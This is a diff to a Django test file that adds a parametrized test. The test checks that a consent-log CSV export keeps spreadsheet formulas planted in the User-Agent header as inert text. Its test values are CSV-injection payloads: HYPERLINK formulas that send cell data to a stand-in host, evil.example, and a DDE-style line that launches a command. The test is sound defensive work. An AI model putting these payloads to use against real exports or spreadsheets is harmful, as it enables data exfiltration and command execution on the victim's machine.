@@ -155,6 +155,25 @@ def test_consent_log_exports_csv(client, dpo_client):
     assert rows[0]["user_agent"] == "'=HYPERLINK()"  # never a spreadsheet formula
 
 
+@pytest.mark.parametrize(
+    "user_agent",
+    [
+        '=HYPERLINK("https://evil.example/?"&A1,"click")',
+        ' =HYPERLINK("https://evil.example/?"&A1,"click")',  # a spreadsheet may trim the space
+        '\uff1dHYPERLINK("https://evil.example/?"&A1,"click")',  # full-width equals sign
+        "\t@SUM(1+1)*cmd|' /C calc'!A0",
+    ],
+)
+def test_consent_log_export_keeps_a_planted_formula_as_text(client, dpo_client, user_agent):
+    decide(client, action="accept_all", headers={"User-Agent": user_agent})
+    record = ConsentRecord.objects.get()
+
+    response = dpo_client.post(RECORDS, {"action": "export_csv", "_selected_action": [record.pk]})
+
+    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
+    assert row["user_agent"] == f"'{user_agent}"
+
+
 def test_consent_changelist_query_count_does_not_grow_with_rows(
     client, dpo_client, django_assert_max_num_queries
 ):
